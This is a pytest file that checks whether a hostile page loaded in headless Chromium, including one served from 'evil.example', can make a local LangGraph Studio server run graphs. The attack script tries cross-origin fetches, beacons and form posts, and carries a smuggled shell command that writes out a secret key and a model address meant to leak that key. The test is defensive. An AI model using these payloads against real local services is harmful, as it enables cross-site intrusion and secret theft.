"""The Studio attack in a real Chromium, and Studio's own page in the same browser.

A page's script reports what it achieved to the server that it came from. `smith.langchain.com` is a server of the test:
the browser is told that the name is on this machine, so that its Origin is the real one.
"""

from __future__ import annotations

import datetime
import json
import os
import queue
import shutil
import ssl
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from studio_run import Served, running, write_run

pytest.importorskip("langgraph_sdk", reason="extra 'studio' is not installed")
pytest.importorskip("langgraph_api", reason="extra 'studio' is not installed")

NAMES = ("chromium", "chromium-headless-shell", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome")
SECONDS = 120.0
"""For one page; some seconds are usual, and a browser that starts on a busy machine takes its time."""

ATTACK = """
const base = %(base)s, contexts = %(contexts)s, report = {};
const input = {messages: [{role: "user", content: "What is the default of `heater_limit`?"}]};
async function attempt(name, act) {
  const late = new Promise((done) => setTimeout(done, 3000, "no answer in time"));
  try { report[name] = await Promise.race([act(), late]); } catch (error) { report[name] = "failed: " + error.name; }
}
const read = async (reply) => reply.type === "opaque" ? "opaque" : reply.status + " " + await reply.text();
(async () => {
  for (const [name, context] of Object.entries(contexts)) {
    const body = JSON.stringify({assistant_id: "teacher", input, context});
    for (const path of ["/runs/wait", "/runs", "/runs/stream"]) {
      await attempt(name + " silent " + path, async () => read(await fetch(base + path, {method: "POST", body,
        mode: "no-cors", headers: {"Content-Type": "text/plain"}})));
    }
    await attempt(name + " plain", async () => read(await fetch(base + "/runs/wait", {method: "POST", body,
      headers: {"Content-Type": "text/plain"}})));
    await attempt(name + " json", async () => read(await fetch(base + "/runs/wait", {method: "POST", body,
      headers: {"Content-Type": "application/json"}})));
    await attempt(name + " blob", async () => read(await fetch(base + "/runs/wait", {method: "POST", mode: "no-cors",
      body: new Blob([body])})));
    navigator.sendBeacon(base + "/runs/wait", new Blob([body], {type: "text/plain"}));
    const form = Object.assign(document.createElement("form"), {method: "POST", action: base + "/runs/wait",
      enctype: "text/plain", target: "frame"});
    form.append(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ', "x": "', value: '"}'}));
    document.body.append(form);
    form.submit();
  }
  await attempt("threads", async () => read(await fetch(base + "/threads/search", {method: "POST", body: "{}",
    headers: {"Content-Type": "text/plain"}})));
  await attempt("info", async () => read(await fetch(base + "/info")));
  await attempt("socket", () => new Promise((done) => {
    const line = new WebSocket(base.replace("http", "ws") + "/threads/%(thread)s/stream/events");
    line.onopen = () => done("open");
    line.onerror = () => done("failed: refused");
  }));
  await new Promise((done) => setTimeout(done, 1500));  // the forms and beacons have been sent by then
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
"""

PAGE = """
const base = new URL(location).searchParams.get("baseUrl"), report = {};
const ask = async (path, body, method) => {
  const headers = {"Content-Type": "application/json", "x-auth-scheme": "langsmith"};
  const reply = await fetch(base + path, {method: method || (body ? "POST" : "GET"), headers,
    body: body && JSON.stringify(body)});
  if (!reply.ok) throw new Error(path + " " + reply.status + " " + await reply.text());
  return reply;
};
(async () => {
  try {
    report.info = (await (await ask("/info")).json()).version;
    const assistants = await (await ask("/assistants/search", {})).json();
    report.graphs = assistants.map((each) => each.graph_id).sort();
    const one = assistants.find((each) => each.graph_id === "teacher").assistant_id;
    const schemas = await (await ask("/assistants/" + one + "/schemas")).json();
    report.teams = schemas.context_schema.properties.team.enum;
    report.nodes = (await (await ask("/assistants/" + one + "/graph?xray=true")).json()).nodes.length;
    const thread = (await (await ask("/threads", {})).json()).thread_id;
    const stream = await ask("/threads/" + thread + "/runs/stream", {assistant_id: one, stream_mode: ["updates"],
      input: {messages: [{role: "user", content: "What is the default of `heater_limit`?"}]},
      context: {mode: "react", board: {top_k: 2}}});
    const told = await stream.text();
    report.events = [...told.matchAll(/^event: (\\w+)/gm)].map((found) => found[1]);
    report.answer = (await (await ask("/threads/" + thread + "/state")).json()).values.answer;
    report.steps = (await (await ask("/threads/" + thread + "/history", {limit: 10})).json()).length;
  } catch (error) { report.error = String(error); }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
"""


@pytest.fixture(scope="module")
def browser() -> str:
    """A Chromium; skips where there is none."""
    named = os.environ.get("RETORT_CHROMIUM")
    found = named or next(filter(None, map(shutil.which, NAMES)), None)
    if found is None:
        pytest.skip("no Chromium: install one (Debian: chromium-headless-shell), or name it in RETORT_CHROMIUM")
    return found


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The server that is attacked; a variable of its environment holds a key."""
    run = write_run(tmp_path_factory.mktemp("browsed"))
    with running(run, None, tmp_path_factory.mktemp("elsewhere"), {"RETORT_TEST_KEY": "sk-" + "k" * 40}) as started:
        yield started


@contextmanager
def site(script: str, secured: Path | None = None) -> Iterator[tuple[int, queue.Queue[dict[str, Any]], list[str]]]:
    """A site with one page: its port, the reports of its script, and every path that was asked beside them."""
    reports: queue.Queue[dict[str, Any]] = queue.Queue()
    others: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            if path not in ("/", "/studio/", "/favicon.ico"):
                others.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<body><iframe name=frame></iframe><script>{script}</script>".encode())

        def do_POST(self) -> None:
            data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.path == "/report":
                reports.put(json.loads(data))
            else:
                others.append(f"{self.path} {self.headers} {data!r}")
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    if secured is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(secured)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    listening = threading.Thread(target=server.serve_forever, daemon=True)
    listening.start()
    try:
        yield server.server_port, reports, others
    finally:
        server.shutdown()
        server.server_close()
        listening.join()


def visited(browser: str, url: str, names: str, reports: queue.Queue[dict[str, Any]], folder: Path) -> dict[str, Any]:
    """What a page's script reports when a Chromium opens it.

    Args:
        names: which host names are where, as Chromium's --host-resolver-rules.
    """
    command = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--ignore-certificate-errors"]
    command += ["--disable-background-networking", "--disable-component-update", "--no-proxy-server"]
    command += [f"--user-data-dir={folder}", f"--host-resolver-rules={names}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
    command += ["--remote-debugging-port=0", url]  # with a port for tools it stays open until it is ended
    log = (folder / "said.txt").open("wb")
    with log, subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log) as process:
        try:
            return reports.get(timeout=SECONDS)
        except queue.Empty:
            pytest.fail(f"no report from {url}; the browser said: {(folder / 'said.txt').read_text()[-2000:]}")
        finally:
            process.terminate()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
@pytest.mark.parametrize("leaked", [False, True])
def test_a_hostile_page_achieves_nothing(browser: str, served: Served, host: str, leaked: bool, tmp_path: Path) -> None:
    """From another port of this machine, and by a name that points to this machine; even with a token that leaked."""
    mark = tmp_path / "it-ran"
    with site("") as (thief, _, heard):
        address = f"http://127.0.0.1:{thief}"
        seat = {"model": f"openai:m@{address}/v1", "key_env": "RETORT_TEST_KEY"}
        probe = {"command": "sh", "args": ["-c", f"echo $RETORT_TEST_KEY > {mark}"], "env": ["RETORT_TEST_KEY"]}
        contexts = {
            "command": {"board": {"mcp": {"x": probe}}},
            "seat": {"team": {"name": "t", "reason": seat}},
            "none": {},
        }
        base = f"http://{host}:{served.port}{served.prefix if leaked else ''}"
        script = ATTACK % {
            "base": json.dumps(base),
            "contexts": json.dumps(contexts),
            "thread": "11111111-1111-4111-8111-111111111111",
        }
        with site(script) as (port, reports, _):
            report = visited(
                browser, f"http://{host}:{port}/", "MAP evil.example 127.0.0.1", reports, folder_in(tmp_path)
            )
        assert not mark.exists()
        assert heard == []
    told = {name: said for name, said in report.items() if said != "opaque" and not str(said).startswith("failed: ")}
    assert told == {}
    assert len(report) == 3 * 6 + 3
    assert report["socket"] == "failed: refused"


def test_studios_own_page_works(browser: str, served: Served, tmp_path: Path) -> None:
    """What Studio's page does, from its own Origin over TLS, with nothing but the address that was printed."""
    line = next(line for line in served.said.splitlines() if line.startswith("studio "))
    page = line.split()[1]
    with site(PAGE, certificate(tmp_path)) as (port, reports, _):
        names = f"MAP smith.langchain.com:443 127.0.0.1:{port}"
        report = visited(browser, page, names, reports, folder_in(tmp_path))
    assert "error" not in report, report
    assert report["graphs"] == ["search", "student", "teacher"]
    assert report["teams"] == ["student", "teacher", "base"]
    assert report["events"] == ["metadata", "updates", "updates", "updates", "updates"]
    assert (report["answer"], report["steps"]) == ("3", 6)


def folder_in(root: Path) -> Path:
    """A folder for a browser's profile."""
    made = root / "profile"
    made.mkdir()
    return made


def certificate(folder: Path) -> Path:
    """A certificate for smith.langchain.com with its key, which nobody but this test's browser accepts."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "smith.langchain.com")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), 1, now, now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("smith.langchain.com")]), critical=False)
        .sign(key, hashes.SHA256())
    )
    path = folder / "certificate.pem"
    form = serialization.PrivateFormat.PKCS8
    encoding = serialization.Encoding.PEM
    path.write_bytes(key.private_bytes(encoding, form, serialization.NoEncryption()) + made.public_bytes(encoding))
    return path
